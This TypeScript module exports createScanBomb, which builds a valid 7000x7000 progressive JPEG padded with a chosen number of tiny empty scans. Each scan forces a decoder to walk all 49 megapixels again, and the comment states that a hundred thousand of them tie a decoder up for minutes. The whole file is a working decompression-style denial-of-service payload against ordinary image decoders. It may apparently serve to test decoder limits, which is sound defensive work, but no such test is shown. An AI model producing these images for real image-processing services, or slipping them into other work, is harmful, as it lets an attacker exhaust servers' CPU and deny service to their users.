const width = 7000;
const height = 7000;
const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
const longestRun = 32_767;
const grey = [0xff, 0xda, 0, 8, 1, 1, 0];

/**
 * A progressive JPEG that is whole and within every limit of size, and goes through its 49 megapixels again with each
 * of its scans, of some dozens of bytes. A hundred thousand of them keep a decoder busy for minutes.
 */
export function createScanBomb(scans: number): Buffer {
  const header = Buffer.from([0xff, 0xd8, 0xff, 0xdb, 0, 67, 0, ...Array.from({ length: 64 }, () => 1)]);
  const frame = Buffer.from([0xff, 0xc2, 0, 11, 8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
  const first = Buffer.concat([Buffer.from([...grey, 0, 0, 0]), Buffer.alloc(Math.ceil(blocks / 8))]);
  const more = Array.from({ length: scans }, createEmptyScan);
  const end = Buffer.from([0xff, 0xd9]);
  return Buffer.concat([header, frame, createTable(0, 0), createTable(1, 0xe0), first, ...more, end]);
}

/** A Huffman table with one code of one bit. */
function createTable(kind: number, symbol: number): Buffer {
  return Buffer.from([0xff, 0xc4, 0, 20, kind << 4, 1, ...Array.from({ length: 15 }, () => 0), symbol]);
}

/** All blocks in runs of nothing: a code bit and fourteen bits of length each. */
function createEmptyScan(): Buffer {
  const bits = `0${'1'.repeat(14)}`.repeat(Math.ceil(blocks / longestRun));
  const bytes = bits.match(/.{1,8}/g)?.map((byte) => Number.parseInt(byte.padEnd(8, '1'), 2)) ?? [];
  return Buffer.from([...grey, 1, 1, 0, ...bytes.flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte]))]);
}
